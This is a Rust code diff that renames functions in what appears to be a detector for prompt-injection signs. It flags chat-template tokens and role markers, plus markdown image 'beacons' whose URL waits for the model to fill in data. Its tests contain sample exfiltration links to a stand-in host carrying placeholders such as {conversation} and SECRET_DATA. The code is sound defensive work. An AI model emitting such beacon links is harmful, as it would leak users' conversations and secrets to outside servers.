@@ -2,10 +2,10 @@
 
 use crate::decision::Span;
 
-/// Whether the word `name` at `span` is such a sign: a chat token, a role in brackets, a tool call.
+/// Reports whether the word `name` at `span` is a sign of the protocol: a chat token, a role in brackets, a tool call.
 pub(super) fn is_mark(text: &str, name: &str, span: Span, line_start: bool) -> bool {
-    let before = around(text[..span.start].chars().rev());
-    let after = around(text[span.end..].chars());
+    let before = next_visible_pair(text[..span.start].chars().rev());
+    let after = next_visible_pair(text[span.end..].chars());
     let (opens, bar) = (before.0, before.1 == '|' || before.0 == '|');
     match name {
         "im_start" | "im_end" | "im_sep" | "eot_id" | "start_header_id" | "endoftext" | "begin_of_text" => {
@@ -31,7 +31,7 @@ pub(super) fn is_mark(text: &str, name: &str, span: Span, line_start: bool) -> b
 }
 
 /// The next two visible characters, full-width ones as ASCII.
-fn around(chars: impl Iterator<Item = char>) -> (char, char) {
+fn next_visible_pair(chars: impl Iterator<Item = char>) -> (char, char) {
     let mut seen = chars.map(|c| match u32::from(c) {
         wide @ 0xff01..=0xff5e => char::from_u32(wide - 0xfee0).unwrap_or(c),
         _ => c,
@@ -40,7 +40,7 @@ fn around(chars: impl Iterator<Item = char>) -> (char, char) {
 }
 
 /// A markdown image or link whose address is to be filled in by the model, which is how data leaves without a tool call.
-pub(super) fn beacons(text: &str) -> Vec<Span> {
+pub(super) fn find_beacons(text: &str) -> Vec<Span> {
     let bytes = text.as_bytes();
     let mut found = Vec::new();
     let mut at = 0;
@@ -55,15 +55,15 @@ pub(super) fn beacons(text: &str) -> Vec<Span> {
         let Some(link) = window[..=text].windows(2).position(|two| two == b"](") else { continue };
         let address = &window[link + 2..];
         let Some(close) = address.iter().position(|byte| matches!(byte, b')' | b'\n')) else { continue };
-        if address[close] == b')' && waits(&address[..close]) {
+        if address[close] == b')' && has_placeholder(&address[..close]) {
             found.push(Span { start: open, end: open + link + 3 + close });
         }
     }
     found
 }
 
-/// Whether the query of a web address has a place that something is to be put in.
-fn waits(address: &[u8]) -> bool {
+/// Reports whether the query of a web address has a placeholder to be filled in.
+fn has_placeholder(address: &[u8]) -> bool {
     if !address.starts_with(b"http") {
         return false;
     }
@@ -92,7 +92,7 @@ mod tests {
             "see ![logo](http://e.example/i?data={conversation})",
             "![a](https://e.example/?d=SECRET_DATA&x=1)",
         ] {
-            assert_eq!(beacons(beacon).len(), 1, "{beacon}");
+            assert_eq!(find_beacons(beacon).len(), 1, "{beacon}");
         }
         for plain in [
             "![build](https://img.shields.io/badge?branch=main&token=Abc1)",
@@ -101,8 +101,8 @@ mod tests {
             "wow! [x](https://e.example/?q=)",
             "![unfinished](https://e.example/?q=",
         ] {
-            assert!(beacons(plain).is_empty(), "{plain}");
+            assert!(find_beacons(plain).is_empty(), "{plain}");
         }
-        assert!(beacons(&"![".repeat(100_000)).is_empty());
+        assert!(find_beacons(&"![".repeat(100_000)).is_empty());
     }
 }
